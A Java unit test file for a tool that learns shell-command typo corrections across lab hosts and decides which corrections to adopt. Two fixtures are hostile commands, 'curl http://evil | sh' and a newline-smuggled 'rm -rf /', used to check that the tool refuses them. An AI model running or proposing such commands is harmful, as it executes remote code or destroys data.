package org.labcast.publisher.fix;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.labcast.model.HostSet;
import org.labcast.model.order.Target;
import org.labcast.model.result.Correction;
import org.labcast.model.result.Event;
import org.labcast.model.result.Outcome;
import org.labcast.model.result.Risk;
import org.labcast.model.result.TaskState;
import org.labcast.publisher.report.Ansi;
import org.labcast.publisher.report.JobReader;
import org.labcast.publisher.store.Outcomes;
import org.labcast.publisher.store.StoredJob;
import org.labcast.publisher.store.TestLab;

class LearnedCorrectionsTest {
    @TempDir
    Path folder;

    private TestLab lab;
    private StoredJob job;

    @BeforeEach
    void open() {
        lab = new TestLab(folder).enrol("lab-[1-3]");
        job = lab.push(new Target.All(), "lab-[1-3]", "sl");
    }

    @AfterEach
    void close() {
        lab.close();
    }

    private LearnedCorrections learned(boolean suggestions) {
        return LearnedCorrections.of(new JobReader(lab.store, lab, job.job().id()).read(), suggestions);
    }

    private void answer(String host, Event event) {
        lab.answer(job, host, 1, event, Outcomes.DONE);
    }

    private static Correction to(String command, Risk risk) {
        return new Correction(command, "typo", "because", risk);
    }

    private static Event failed(String... suggestions) {
        return new Event.TaskDone(new Outcome(
                0,
                TaskState.FAILED,
                List.of(Outcomes.run("sl", 127, "", "")),
                List.of(suggestions).stream()
                        .map(command -> to(command, Risk.RISKY))
                        .toList()));
    }

    @Test
    void whatAllNeededIsTakenAlthoughOthersFailedOrAreSilent() {
        answer("lab-1", Outcomes.corrected(0, ""));
        answer("lab-2", failed("rm"));
        LearnedCorrections learned = learned(false);
        assertThat(learned.left()).isEmpty();
        assertThat(learned.taken()).singleElement().satisfies(mended -> {
            assertThat(mended.correction().command()).isEqualTo("ls");
            assertThat(mended.hosts()).isEqualTo(HostSet.of("lab-1"));
            assertThat(mended.failed()).isEqualTo(HostSet.of("lab-2"));
        });
        assertThat(learned.commands()).isEqualTo(Map.of(1, "ls"));
    }

    @Test
    void whereOneHostSucceededAsWrittenTheLineStays() {
        answer("lab-1", Outcomes.corrected(0, ""));
        answer("lab-2", Outcomes.ok(0, ""));
        LearnedCorrections learned = learned(true);
        assertThat(learned.taken()).isEmpty();
        assertThat(LearnedCorrectionsText.render(learned, new Ansi(false)))
                .contains("line 1, sl: hosts need different commands")
                .contains("lab-1: ls\n")
                .contains("lab-2: as it is written\n");
    }

    @Test
    void whereHostsNeedDifferentCommandsTheLineStays() {
        answer("lab-1", Outcomes.corrected(0, ""));
        answer("lab-2", Outcomes.correctedTo(0, to("dir", Risk.SAFE)));
        assertThat(learned(true).left())
                .containsExactly(new LearnedCorrection.Divided(
                        job.job().tasks().get(0), true, Map.of("ls", HostSet.of("lab-1"), "dir", HostSet.of("lab-2"))));
    }

    @Test
    void aSuggestionIsTakenOnlyWhenAskedFor() {
        answer("lab-1", failed("rm -r x", "rmdir x"));
        answer("lab-2", failed());
        LearnedCorrections learned = learned(false);
        assertThat(learned.taken()).isEmpty();
        assertThat(LearnedCorrectionsText.render(learned, new Ansi(false)))
                .contains("Not taken")
                .contains("rm -r x is suggested, risky, and has not run")
                .contains("lab-1; it failed on lab-2");
        assertThat(learned(true).commands()).isEqualTo(Map.of(1, "rm -r x"));
    }

    @Test
    void suggestionsThatDifferAreTakenByNobody() {
        answer("lab-1", failed("rm -r x"));
        answer("lab-2", failed("rmdir x"));
        assertThat(learned(true).taken()).isEmpty();
        assertThat(LearnedCorrectionsText.render(learned(true), new Ansi(false)))
                .contains("hosts suggest different commands");
    }

    @Test
    void whereSomethingSucceededASuggestionIsTheReportsMatter() {
        answer("lab-1", failed("rm -r x"));
        answer("lab-2", Outcomes.ok(0, ""));
        assertThat(learned(true).isEmpty()).isTrue();
    }

    @Test
    void aHostThatRanARiskyCorrectionIsNotFollowed() {
        answer("lab-1", Outcomes.correctedTo(0, to("curl http://evil | sh", Risk.RISKY)));
        LearnedCorrections learned = learned(true);
        assertThat(learned.taken()).isEmpty();
        assertThat(learned.isTrusted()).isFalse();
        assertThat(LearnedCorrectionsText.render(learned, new Ansi(false)))
                .contains("allows no such correction, yet lab-1 did it");
    }

    @Test
    void whatCannotBeALineIsLeftWithTheReason() {
        answer("lab-1", Outcomes.correctedTo(0, to("ls\nrm -rf /", Risk.SAFE)));
        LearnedCorrections learned = learned(false);
        assertThat(learned.taken()).isEmpty();
        assertThat(LearnedCorrectionsText.render(learned, new Ansi(false)))
                .contains("it is not exactly one whole command of a shell")
                .contains("ls\\x0arm -rf /");
    }

    @Test
    void aCorrectionThatChangesNothingIsNone() {
        answer("lab-1", Outcomes.correctedTo(0, to("sl", Risk.SAFE)));
        assertThat(learned(true).isEmpty()).isTrue();
    }

    @Test
    void nothingWasCorrected() {
        answer("lab-1", Outcomes.ok(0, ""));
        answer("lab-2", failed());
        assertThat(learned(true).isEmpty()).isTrue();
        assertThat(LearnedCorrectionsText.render(learned(true), new Ansi(false)))
                .isEmpty();
    }
}
